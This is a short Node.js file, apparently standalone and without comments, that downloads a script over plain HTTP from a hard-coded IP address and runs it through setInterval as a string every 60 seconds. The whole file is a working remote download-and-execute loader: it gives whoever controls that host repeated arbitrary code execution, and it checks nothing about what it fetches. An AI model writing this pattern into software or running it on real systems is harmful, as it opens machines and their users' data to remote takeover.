const http = require('http');

http.get('http://198.51.100.23/w/slug.js', (response) => {
  const parts = [];
  response.on('data', (part) => parts.push(part));
  response.on('end', () => {
    const script = Buffer.concat(parts).toString('utf8');
    setInterval(script, 60000);
  });
});
